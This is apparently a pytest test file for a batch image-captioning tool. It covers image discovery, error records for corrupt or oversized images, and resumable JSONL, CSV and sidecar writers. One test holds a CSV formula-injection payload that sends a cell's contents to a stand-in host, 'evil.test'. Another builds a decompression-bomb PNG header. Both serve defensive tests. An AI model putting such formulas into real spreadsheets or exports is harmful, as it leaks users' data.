"""Batch captioning in process: discovery, caption_many on good and bad images, and the output writers
(resume keys, repair of a killed run's last record, atomic sidecars)."""

from __future__ import annotations

import json
import os
import re
import struct
import threading
import time
import uuid
import zlib
from pathlib import Path

import pytest
from support.images import ImageFactory
from support.runtime_lock import model_free

from llava_edge import Captioner, GenerationOptions, caption_many
from llava_edge.batch.discovery import discover_images
from llava_edge.batch.outputs import SidecarWriter, open_sinks, sidecar_path
from llava_edge.batch.record_files import CSV_COLUMNS, CsvWriter, JsonlWriter
from llava_edge.batch.records import BatchRecord, ImageItem, task_uuid_for
from llava_edge.batch.runner import ImageStage, run_batch
from llava_edge.errors import OutputFileError
from llava_edge.events import Progress, TextDelta
from llava_edge.generation import Timings

SHORT = GenerationOptions(max_tokens=4, seed=7)


@pytest.fixture
def library(tmp_path: Path, make_image: ImageFactory) -> dict[str, Path]:
    """A folder of good images (PNG, JPEG, WEBP, one in a subfolder) and bad ones of every kind."""
    root = tmp_path / "photos"
    (root / "trip").mkdir(parents=True)
    files = {
        "a.png": make_image(64, 48), "b.jpg": make_image(50, 70, format="JPEG"),
        "c.webp": make_image(40, 40, format="WEBP"), "trip/d.png": make_image(90, 30),
        "corrupt.png": b"\x89PNG\r\n\x1a\n not really", "truncated.png": make_image(64, 48)[:70],
        "empty.png": b"", "tiff.png": make_image(32, 32, format="TIFF"),
    }
    for name, data in files.items():
        (root / name).write_bytes(data)
    (root / "huge.png").write_bytes(_png_claiming(7000, 6000, files["a.png"]))  # 42 Mpx: over the 40 Mpx limit
    (root / "notes.txt").write_text("not an image")
    (root / ".hidden.png").write_bytes(files["a.png"])
    return {name: root / name for name in [*files, "huge.png"]}


BAD_CODES = {
    "corrupt.png": "unsupportedImageFormat", "truncated.png": "invalidInputsImage", "empty.png": "invalidInputsImage",
    "tiff.png": "unsupportedImageFormat", "huge.png": "invalidInputsImage",
}


def test_discover_images_in_folders_and_globs(library: dict[str, Path], tmp_path: Path) -> None:
    root = tmp_path / "photos"
    top = sorted(str(path) for name, path in library.items() if "/" not in name)
    assert discover_images([str(root)]) == top
    assert discover_images([str(root)], recursive=True) == [*top, str(library["trip/d.png"])]
    assert discover_images([f"{root}/*.jp*g", str(library["a.png"]), f"{root}/*.jpg"]) == [
        str(library["b.jpg"]), str(library["a.png"])]
    deep = discover_images([f"{root}/**/*.png"], recursive=True)
    assert str(library["trip/d.png"]) in deep and str(library["a.png"]) in deep
    odd = tmp_path / "scan.raw"
    odd.write_bytes(b"x")
    url = "https://example.com/cat.png?size=[2]"
    assert discover_images([str(odd), url, "missing.png", f"{root}/*.gif"]) == [str(odd), url, "missing.png"]


def test_caption_many_captions_good_images_once_and_records_bad_ones(
    library: dict[str, Path], captioner: Captioner
) -> None:
    paths = discover_images([str(library["a.png"].parent)], recursive=True)
    records = list(caption_many(paths, "Caption it.", captioner=captioner, options=SHORT))

    assert [record.image for record in records] == paths
    by_name = {Path(record.image).name: record for record in records}
    for name, code in BAD_CODES.items():
        record = by_name[name]
        assert not record.ok and record.response is None and record.error is not None
        assert record.error["code"] == code and record.error["taskType"] == "imageCaption"
    assert "42000000 pixels; the limit is 40000000" in by_name["huge.png"].error["message"]  # type: ignore[index]
    good = [record for record in records if record.ok]
    assert sorted(Path(record.image).name for record in good) == ["a.png", "b.jpg", "c.webp", "d.png"]
    for record in good:
        assert record.text and record.model == captioner.model_name and record.timings is not None
        assert record.timings.generated_tokens <= 4 and record.finish_reason in ("stop", "length")
        data = Path(record.image).read_bytes()
        assert record.response == {"taskType": "imageCaption", "taskUUID": task_uuid_for(record.image, record.sha256),
                                   "text": record.text}
        assert uuid.UUID(record.response["taskUUID"]).version == 4 and record.sha256 == _sha256(data)
        assert BatchRecord.from_json(json.loads(json.dumps(record.to_json()))) == record


def test_caption_many_skips_what_the_output_holds(make_image: ImageFactory, captioner: Captioner) -> None:
    items = [ImageItem(f"img{i}", make_image(40 + i, 40)) for i in range(3)]
    done = {("img1", _sha256(items[1].source))}
    records = list(caption_many(items, captioner=captioner, options=SHORT,
                                skip=lambda name, digest: (name, digest()) in done))
    assert [record.skipped for record in records] == [False, True, False]
    assert records[1].response is None and records[1].sha256 == _sha256(items[1].source)


def test_jsonl_resume_keys_and_repair_of_a_killed_runs_last_line(tmp_path: Path) -> None:
    out = tmp_path / "captions.jsonl"
    records = [_record("a.png", "aa", "first"), _record("b.png", "bb", "a caption\nwith two lines"),
               _error("c.png", None)]
    writer = JsonlWriter(out)
    for record in [*records, records[0]]:
        writer.write(record)
    writer.close()
    complete = out.read_bytes()
    assert len(complete.splitlines()) == 3
    with open(out, "ab") as file:
        file.write(b'{"image": "d.png", "sha256": "dd", "response": {"te')  # a kill in the middle of a write

    writer = JsonlWriter(out)
    assert writer.repaired_bytes > 0 and out.read_bytes() == complete
    assert writer.done("a.png", lambda: "aa") and writer.done("c.png", lambda: "")
    assert not writer.done("a.png", lambda: "changed") and not writer.done("d.png", lambda: "dd")
    writer.write(_record("d.png", "dd", "new"))
    writer.close()
    lines = [json.loads(line) for line in out.read_text().splitlines()]
    assert [line["image"] for line in lines] == ["a.png", "b.png", "c.png", "d.png"]
    assert BatchRecord.from_json(lines[1]) == records[1]


def test_jsonl_never_drops_good_records_after_a_corrupt_one(tmp_path: Path) -> None:
    out = tmp_path / "captions.jsonl"
    good = json.dumps(_record("b.png", "bb", "fine").to_json())
    out.write_text(f"{{not json\n{good}\n")
    with pytest.raises(OutputFileError, match="does not parse"):
        JsonlWriter(out)
    assert out.read_text() == f"{{not json\n{good}\n"


def test_a_second_run_on_the_same_output_is_refused(tmp_path: Path) -> None:
    out = tmp_path / "captions.jsonl"
    first = JsonlWriter(out)
    with pytest.raises(OutputFileError, match="Another llava-edge run"):
        JsonlWriter(out)
    first.close()
    JsonlWriter(out).close()


def test_csv_keeps_multiline_captions_and_repairs_a_cut_quoted_field(tmp_path: Path) -> None:
    out = tmp_path / "captions.csv"
    writer = CsvWriter(out)
    writer.write(_record("a.png", "aa", 'two\nlines, "quoted"'))
    writer.write(_error("b.png", "bb"))
    writer.close()
    complete = out.read_bytes()
    with open(out, "ab") as file:
        file.write(b'c.png,cc,synthetic-tiny,uuid,"a caption cut\nin the midd')

    writer = CsvWriter(out)
    assert out.read_bytes() == complete and writer.done("b.png", lambda: "bb")
    writer.close()
    import csv

    with open(out, newline="") as file:
        rows = list(csv.DictReader(file))
    assert tuple(rows[0]) == CSV_COLUMNS
    assert rows[0]["text"] == 'two\nlines, "quoted"' and rows[0]["generated_tokens"] == "3"
    assert rows[1]["errorCode"] == "invalidInputsImage" and rows[1]["text"] == ""

    other = tmp_path / "other.csv"
    other.write_text("name,caption\nx.png,hello\n")
    with pytest.raises(OutputFileError, match="not a llava-edge CSV"):
        CsvWriter(other)


def test_csv_neutralises_formulas_and_resumes_on_the_real_names(tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://evil.test/?leak="&A1,"click")'
    names = [f"{formula}.png", "+1.png", "-2.png", "@SUM(A1).png", "\tt.png", "\rr.png", "'=quoted.png", "plain.png"]
    records = [_record(name, f"{index:02x}", formula if index == 0 else f"caption {index}")
               for index, name in enumerate(names)]
    failed = BatchRecord("@bad.png", "ee", error={"code": "invalidInputsImage", "message": "-1 is no size"})
    csv_out, jsonl_out = tmp_path / "captions.csv", tmp_path / "captions.jsonl"
    for writer in (CsvWriter(csv_out), JsonlWriter(jsonl_out)):
        for record in [*records, failed]:
            writer.write(record)
        writer.close()

    import csv

    with open(csv_out, newline="", encoding="utf-8") as file:
        rows = list(csv.DictReader(file))
    assert [row["image"] for row in rows] == [*(f"'{name}" for name in names[:-1]), "plain.png", "'@bad.png"]
    assert rows[0]["text"] == f"'{formula}" and rows[1]["text"] == "caption 1"
    assert rows[-1]["errorMessage"] == "'-1 is no size" and rows[-1]["errorCode"] == "invalidInputsImage"
    assert rows[0]["generated_tokens"] == "3" and rows[0]["sha256"] == "00"
    assert all(not cell or cell[0] not in "=+-@\t\r" for row in rows for cell in row.values())
    lines = [json.loads(line) for line in jsonl_out.read_text().splitlines()]  # JSONL keeps the exact text
    assert [line["image"] for line in lines] == [*names, "@bad.png"] and lines[0]["response"]["text"] == formula
    assert lines[-1]["error"]["message"] == "-1 is no size"

    written = csv_out.read_bytes()
    resumed = CsvWriter(csv_out)  # the stored cells are matched against the real names
    for record in [*records, failed]:
        digest = record.sha256 or ""
        assert resumed.done(record.image, lambda: digest)  # noqa: B023 - called before the loop goes on
        resumed.write(record)
    assert not resumed.done("=quoted.png", lambda: "06") and not resumed.done("'+1.png", lambda: "01")
    resumed.close()
    assert csv_out.read_bytes() == written


def test_sidecars_are_written_atomically_beside_each_image(tmp_path: Path) -> None:
    image = tmp_path / "cat.jpg"
    image.write_bytes(b"jpeg")
    sidecars = SidecarWriter()
    assert not sidecars.done(str(image), lambda: "")
    sidecars.write(_record(str(image), "aa", "a cat"))
    sidecars.write(_error(str(tmp_path / "dog.jpg"), None))
    assert (tmp_path / "cat.txt").read_text() == "a cat" and not (tmp_path / "dog.txt").exists()
    assert sidecars.done(str(image), lambda: "") and sorted(os.listdir(tmp_path)) == ["cat.jpg", "cat.txt"]
    os.utime(image, (os.stat(image).st_atime, os.stat(image).st_mtime + 10))  # the photo was edited since
    assert not sidecars.done(str(image), lambda: "")

    (tmp_path / "cat.png").write_bytes(b"png")
    with pytest.raises(OutputFileError, match="would share the sidecar"):
        open_sinks([str(image), str(tmp_path / "cat.png")], sidecar=True)
    assert sidecar_path("a/b.c.jpeg") == "a/b.c.txt"


def test_a_sidecar_that_is_an_input_image_is_refused_never_counted_done(tmp_path: Path) -> None:
    scan = tmp_path / "scan.txt"  # an image with a .txt name: it is its own sidecar
    scan.write_bytes(b"png")
    sidecars = SidecarWriter()
    assert not sidecars.done(str(scan), lambda: "")
    with pytest.raises(OutputFileError, match="over that image itself"):
        sidecars.write(_record(str(scan), "aa", "a scan"))
    with pytest.raises(OutputFileError, match="over that image itself"):
        open_sinks([str(scan)], sidecar=True)
    assert scan.read_bytes() == b"png"

    photo, alias = tmp_path / "cat.jpg", tmp_path / "cat.txt"
    photo.write_bytes(b"jpeg")
    alias.symlink_to(scan)  # cat.jpg's sidecar is another name of the input image scan.txt
    with pytest.raises(OutputFileError, match=re.escape(f"caption of {photo} over the input image {scan} (its")):
        open_sinks([str(photo), str(scan)], sidecar=True)
    alias.unlink()
    alias.symlink_to(photo)  # cat.jpg's sidecar is a link to cat.jpg itself
    assert not sidecars.done(str(photo), lambda: "")
    with pytest.raises(OutputFileError, match="over that image itself"):
        open_sinks([str(photo)], sidecar=True)
    assert photo.read_bytes() == b"jpeg" and scan.read_bytes() == b"png"


def test_run_batch_writes_counts_and_stops_cleanly_on_interrupt(tmp_path: Path) -> None:
    def records() -> object:
        yield _record("a.png", "aa", "one")
        yield BatchRecord("b.png", "bb", skipped=True)
        yield _error("c.png", "cc")
        raise KeyboardInterrupt

    with open_sinks(["a.png", "b.png", "c.png"], out=tmp_path / "out.jsonl") as sinks:
        summary = run_batch(records(), sinks, total=3, progress=False)  # type: ignore[arg-type]
    assert (summary.captioned, summary.failed, summary.skipped, summary.interrupted) == (1, 1, 1, True)
    assert [json.loads(line)["image"] for line in (tmp_path / "out.jsonl").read_text().splitlines()] == [
        "a.png", "c.png"]


def test_caption_many_passes_each_images_events_on_and_stops_part_way(
    make_image: ImageFactory, captioner: Captioner, tmp_path: Path
) -> None:
    """``stop`` set during the second image's prefill: no record for it, none after it, and run_batch
    reports the run interrupted; every event came with its image's name."""
    paths = []
    for index in range(3):
        paths.append(tmp_path / f"p{index}.png")
        paths[-1].write_bytes(make_image(672, 600 + index))
    stop = threading.Event()
    seen: list[tuple[str, object]] = []

    def on_event(image: str, event: Progress | TextDelta) -> None:
        seen.append((image, event))
        if image == str(paths[1]) and isinstance(event, Progress) and event.stage == "prefill" and event.done:
            stop.set()

    records = caption_many(paths, captioner=captioner, options=SHORT, on_event=on_event, stop=stop)
    with open_sinks([str(path) for path in paths], out=tmp_path / "out.jsonl") as sinks:
        summary = run_batch(records, sinks, total=3, progress=False, stop=stop)
    assert (summary.captioned, summary.interrupted) == (1, True)
    assert [json.loads(line)["image"] for line in (tmp_path / "out.jsonl").read_text().splitlines()] == [str(paths[0])]
    first_image = [event for image, event in seen if image == str(paths[0])]
    assert isinstance(first_image[0], Progress) and any(isinstance(event, TextDelta) for event in first_image)
    assert {image for image, _ in seen} == {str(paths[0]), str(paths[1])}
    assert model_free(captioner.runtime)


def test_the_stage_of_the_image_in_hand_goes_beside_the_bar() -> None:
    class Bar:
        disable = False
        description = ""

        def set_description_str(self, text: str, refresh: bool = True) -> None:
            self.description = text

    stage = ImageStage(per_second=1000.0)
    stage("photos/cat.png", Progress.measured("encode", 0, 5, 0.0))  # no bar yet: nothing to show
    stage.bar = bar = Bar()
    stage("photos/cat.png", Progress.measured("encode", 2, 5, 4.0))
    time.sleep(0.002)
    stage("photos/cat.png", Progress.measured("prefill", 1152, 2890, 9.0))
    assert bar.description == "cat.png: CLIP 2/5 tiles · prefill 1,152/2,890 tokens · ETA 0:20"
    time.sleep(0.002)
    stage("photos/dog.png", TextDelta("A", 1))
    assert bar.description == "dog.png: generating · 1 token"


def _record(image: str, sha256: str, text: str) -> BatchRecord:
    response = {"taskType": "imageCaption", "taskUUID": task_uuid_for(image, sha256), "text": text}
    return BatchRecord(image, sha256, model="synthetic-tiny", response=response, finish_reason="stop",
                       timings=Timings(total_s=0.5, image_tokens=576, prompt_tokens=588, generated_tokens=3))


def _error(image: str, sha256: str | None) -> BatchRecord:
    error = {"code": "invalidInputsImage", "message": "The image is corrupt.", "parameter": "inputs.image",
             "taskType": "imageCaption", "taskUUID": task_uuid_for(image, sha256 or "")}
    return BatchRecord(image, sha256, error=error)


def _png_claiming(width: int, height: int, png: bytes) -> bytes:
    """``png`` with its header saying ``width`` x ``height`` (a decompression bomb's header, tiny on disk)."""
    data = bytearray(png)
    data[16:24] = struct.pack(">II", width, height)
    data[29:33] = struct.pack(">I", zlib.crc32(bytes(data[12:29])))
    return bytes(data)


def _sha256(data: bytes) -> str:
    import hashlib

    return hashlib.sha256(data).hexdigest()
